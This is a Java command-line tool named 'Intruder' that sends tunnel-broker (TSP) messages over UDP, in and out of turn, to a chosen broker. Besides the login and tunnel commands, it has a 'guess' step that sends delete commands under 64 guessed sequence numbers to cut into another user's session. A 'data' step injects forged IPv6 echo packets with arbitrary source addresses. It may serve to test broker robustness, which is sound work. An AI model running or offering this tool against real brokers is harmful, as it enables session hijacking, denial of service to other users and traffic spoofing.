import java.io.IOException;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.net.SocketTimeoutException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Base64;
import java.util.Map;
import javax.security.auth.callback.Callback;
import javax.security.auth.callback.NameCallback;
import javax.security.auth.callback.PasswordCallback;
import javax.security.sasl.RealmCallback;
import javax.security.sasl.Sasl;
import javax.security.sasl.SaslClient;

/**
 * Says whatever it is told to a broker over UDP, in and out of turn, from one port.
 *
 * <p>Usage: {@code Intruder PORT BROKER USER PASSWORD STEP...}; it prints a line for each step and
 * what was answered. Steps: {@code version}, {@code anonymous}, {@code digest}, {@code create},
 * {@code info}, {@code delete}, {@code accept}; {@code guess} says delete under each of the first
 * 64 sequence numbers, as if it went on with somebody's session; {@code data=FROM,TO} sends five
 * echo requests as packets of a tunnel.
 */
final class Intruder {
  private static final int FIRST_SEQUENCE = 0xF000_00F0;
  private static final String SILENCE = "silence";
  private static final int ECHO_IDENTIFIER = 0xBAD1;

  private final DatagramSocket socket;
  private final InetAddress broker;
  private final String user;
  private final String password;

  /** Goes on where an earlier run from the same port may have ended: lower numbers are not heard. */
  private int sequence =
      FIRST_SEQUENCE + 0x1000 + (int) (System.currentTimeMillis() / 250 % 0x40_0000) * 16;

  private Intruder(DatagramSocket socket, InetAddress broker, String user, String password) {
    this.socket = socket;
    this.broker = broker;
    this.user = user;
    this.password = password;
  }

  public static void main(String[] words) throws IOException {
    try (DatagramSocket socket = new DatagramSocket(Integer.parseInt(words[0]))) {
      socket.setSoTimeout(1_000);
      Intruder intruder =
          new Intruder(socket, InetAddress.getByName(words[1]), words[2], words[3]);
      for (String step : Arrays.copyOfRange(words, 4, words.length)) {
        System.out.println(step.split("=")[0] + ": " + intruder.take(step).replaceAll("\\s+", " ").strip());
      }
    }
  }

  private String take(String step) throws IOException {
    switch (step) {
      case "version":
        return ask("VERSION=2.0.2\r\n");
      case "anonymous":
        return ask("AUTHENTICATE ANONYMOUS\r\n");
      case "digest":
        return digest();
      case "create":
        return command(
            "<tunnel action=\"create\" type=\"v6udpv4\" proxy=\"no\"><client>"
                + "<address type=\"ipv4\">10.9.1.2</address></client></tunnel>");
      case "info":
      case "delete":
      case "accept":
        return command("<tunnel action=\"" + step + "\"></tunnel>");
      case "guess":
        return guess();
      default:
        return data(step.substring("data=".length()).split(","));
    }
  }

  private String digest() throws IOException {
    SaslClient client =
        Sasl.createSaslClient(
            new String[] {"DIGEST-MD5"}, null, "tsp", broker.getHostAddress(), Map.of(), this::tell);
    String challenge = ask("AUTHENTICATE DIGEST-MD5\r\n").strip();
    if (challenge.startsWith("3") || challenge.equals(SILENCE)) {
      return challenge;
    }
    byte[] response = client.evaluateChallenge(Base64.getDecoder().decode(challenge));
    String proof = ask(Base64.getEncoder().encodeToString(response) + "\r\n").strip();
    return proof.startsWith("3") ? proof : ask("");
  }

  private void tell(Callback[] callbacks) {
    for (Callback callback : callbacks) {
      if (callback instanceof NameCallback name) {
        name.setName(user);
      } else if (callback instanceof PasswordCallback secret) {
        secret.setPassword(password.toCharArray());
      } else if (callback instanceof RealmCallback realm) {
        realm.setText(realm.getDefaultText());
      }
    }
  }

  private String command(String xml) throws IOException {
    return ask("Content-length: " + (xml.length() + 2) + "\r\n" + xml + "\r\n");
  }

  private String guess() throws IOException {
    StringBuilder answers = new StringBuilder();
    socket.setSoTimeout(30);
    for (sequence = FIRST_SEQUENCE; sequence < FIRST_SEQUENCE + 64; ) {
      answers.append(command("<tunnel action=\"delete\"></tunnel>")).append(' ');
    }
    socket.setSoTimeout(1_000);
    return answers.toString();
  }

  /** Sends a message once, since an answer that is lost here is no answer. */
  private String ask(String text) throws IOException {
    byte[] data = text.getBytes(StandardCharsets.ISO_8859_1);
    int asked = sequence++;
    send(ByteBuffer.allocate(8 + data.length).putInt(asked).putInt(0).put(data).array());
    DatagramPacket answer = new DatagramPacket(new byte[4096], 4096);
    try {
      do {
        socket.receive(answer);
      } while (answer.getLength() < 8
          || ByteBuffer.wrap(answer.getData()).getInt(0) != asked);
    } catch (SocketTimeoutException e) {
      return SILENCE;
    }
    return new String(
        answer.getData(), 8, answer.getLength() - 8, StandardCharsets.ISO_8859_1);
  }

  private String data(String[] ends) throws IOException {
    byte[] from = InetAddress.getByName(ends[0]).getAddress();
    byte[] to = InetAddress.getByName(ends[1]).getAddress();
    for (short i = 0; i < 5; i++) {
      send(echoRequest(from, to, i));
    }
    return "sent";
  }

  private static byte[] echoRequest(byte[] from, byte[] to, short number) {
    ByteBuffer packet = ByteBuffer.allocate(48);
    packet.putInt(0x6000_0000).putShort((short) 8).put((byte) 58).put((byte) 64);
    packet.put(from).put(to);
    packet.put((byte) 128).put((byte) 0).putShort((short) 0);
    packet.putShort((short) ECHO_IDENTIFIER).putShort(number);
    int sum = 8 + 58;
    for (int i = 8; i < 48; i += 2) {
      sum += packet.getShort(i) & 0xFFFF;
    }
    while (sum >> 16 != 0) {
      sum = (sum & 0xFFFF) + (sum >> 16);
    }
    return packet.putShort(42, (short) ~sum).array();
  }

  private void send(byte[] datagram) throws IOException {
    socket.send(new DatagramPacket(datagram, datagram.length, broker, 3653));
  }
}
